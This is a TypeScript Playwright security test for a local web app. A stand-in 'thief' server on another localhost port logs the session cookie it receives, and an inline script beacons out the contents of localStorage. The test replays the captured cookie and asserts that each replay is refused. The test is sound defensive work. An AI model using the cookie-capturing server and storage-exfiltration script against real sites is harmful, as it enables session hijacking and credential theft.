/**
 * Finding 7: cookies are not port-scoped, so any other web server on 127.0.0.1 receives the chamber's
 * session cookie and could replay it (it minted a device token). Real Chromium signs in on the chamber, then
 * visits a second server on another port, which records the Cookie header it got and replays it to the
 * chamber: every replay is refused (401 browser_key_required), nothing is minted, and the page itself, which
 * sends the browser key only its own origin can read, keeps working.
 */
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { ApiClient, type Serve } from "../helpers/chamber.js";
import { tempDir } from "../helpers/pier-cli.js";
import {
	apiFor,
	DESKTOP,
	idle,
	launchBrowser,
	newSession,
	rows,
	STEP,
	see,
	send,
	signIn,
	startChamber,
	until,
} from "../chamber-web/browser-helpers.js";

const dir = tempDir("pier-cookie-replay-");
let serve: Serve;
let browser: Browser;
let page: Page;
let thief: Server;
let thiefUrl = "";
const received: { path: string; cookie?: string; storage?: string }[] = [];
const pageErrors: string[] = [];

before(async () => {
	serve = await startChamber(dir.path);
	// Another local web server: it logs the Cookie header of every request and serves a page that reports
	// what its own localStorage holds (it is another origin, so nothing of the chamber's).
	thief = createServer((req, res) => {
		const url = new URL(req.url ?? "/", "http://x");
		received.push({
			path: url.pathname,
			...(req.headers.cookie ? { cookie: req.headers.cookie } : {}),
			...(url.searchParams.has("storage") ? { storage: url.searchParams.get("storage") ?? "" } : {}),
		});
		res.writeHead(200, { "content-type": "text/html" });
		res.end(
			`<!doctype html><script>new Image().src = "/report?storage=" + encodeURIComponent(JSON.stringify(Object.entries(localStorage)));</script>`,
		);
	});
	await new Promise<void>((done) => thief.listen(0, "127.0.0.1", done));
	thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}/`;
	browser = await launchBrowser();
	const context = await browser.newContext(DESKTOP);
	context.setDefaultTimeout(STEP);
	page = await context.newPage();
	page.on("pageerror", (error) => pageErrors.push(error.message));
});

after(async () => {
	await browser?.close().catch(() => {});
	await new Promise<void>((done) => (thief ? thief.close(() => done()) : done()));
	await serve?.stop();
	dir[Symbol.dispose]();
});

test("another server on 127.0.0.1 gets the browser's cookie; replayed to the chamber it is refused", async () => {
	assert.match(serve.url, /^http:\/\/127\.0\.0\.1:\d+\/$/);
	await signIn(page, serve.url);
	await see(page.getByTestId("connection-state"), /^live$/);

	// The same browser visits the other server (a link, a bookmark, a dev server left running).
	const other = await page.context().newPage();
	await other.goto(thiefUrl);
	const stolen = await until(
		() => received.find((r) => r.cookie?.includes("pier_session="))?.cookie,
		"the other server to receive the chamber's cookie",
	);
	const report = await until(() => received.find((r) => r.storage !== undefined), "the other page's storage report");
	assert.equal(report.storage, "[]", "the chamber's browser key is not readable from another origin");
	await other.close();

	// The thief replays exactly what it received.
	const replay = new ApiClient(serve.url);
	replay.cookie = stolen;
	const refused = async (method: string, path: string, body?: unknown) => {
		const reply = await replay.call<{ error?: { code: string; message: string } }>(method, path, body);
		assert.equal(reply.status, 401, `${method} ${path}: ${JSON.stringify(reply.body)}`);
		assert.equal(reply.body.error?.code, "browser_key_required", `${method} ${path}`);
		assert.match(reply.body.error?.message ?? "", /X-Pier-Key/);
	};
	await refused("POST", "/api/auth/tokens", { name: "stolen" });
	await refused("GET", "/api/auth/tokens");
	await refused("POST", "/api/auth/pairing-links", {});
	await refused("GET", "/api/pi/sessions");
	await refused("POST", "/api/pi/sessions", {});
	await refused("GET", "/api/pi/ui-settings");
	const status = await replay.call<{ authenticated: boolean }>("GET", "/api/auth/status");
	assert.equal(status.body.authenticated, false);
	const stream = replay.events("");
	assert.equal(await stream.ready, 401, "the event stream refuses the cookie alone too");
	stream.close();
	// Guessing a key is no better than having none.
	replay.key = "A".repeat(43);
	assert.equal((await replay.call("POST", "/api/auth/tokens", { name: "stolen" })).status, 401);

	// Nothing was minted: the daemon's own view, through a real credential.
	const api = await apiFor(serve.url);
	const tokens = await api.call<{ tokens: unknown[] }>("GET", "/api/auth/tokens");
	assert.deepEqual(tokens.body.tokens, []);
});

test("the page itself keeps working: its requests and its event streams carry the key", async () => {
	const id = await newSession(page);
	await send(page, "hello from the signed-in page");
	await see(rows(page, "assistant"), /\S/);
	await idle(page);
	await see(page.getByTestId("connection-state"), /^live$/);
	const keyed = await page.evaluate("localStorage.getItem('pier.browserKey')");
	assert.match(String(keyed), /^[A-Za-z0-9_-]{43}$/, "the key lives in the chamber origin's localStorage");
	// A reload keeps the sign-in (cookie and key both persist), and the session comes back.
	await page.reload();
	await page.getByTestId("session-list").waitFor();
	await page.locator(`[data-testid="session-item"][data-session-id="${id}"]`).waitFor({ state: "attached" });
	assert.deepEqual(pageErrors, []);
});

test("the app-frame shell opened on its own gets an opaque origin: it cannot read the browser key", async () => {
	// The shell runs inline script by design (it becomes an extension's app). Opened as a top-level page of the
	// chamber's own origin it must not be able to reach that origin's storage, where the browser key lives.
	const shell = await page.context().newPage();
	await shell.goto(new URL("app-frame.html", serve.url).href);
	const seen = (await shell.evaluate(`(() => {
		let storage;
		try {
			storage = String(localStorage.getItem("pier.browserKey"));
		} catch (error) {
			storage = "denied: " + error.name;
		}
		return { origin: self.origin, storage };
	})()`)) as { origin: string; storage: string };
	assert.equal(seen.origin, "null", "the shell's own CSP sandboxes it");
	assert.match(seen.storage, /^denied: SecurityError$/);
	await shell.close();
});
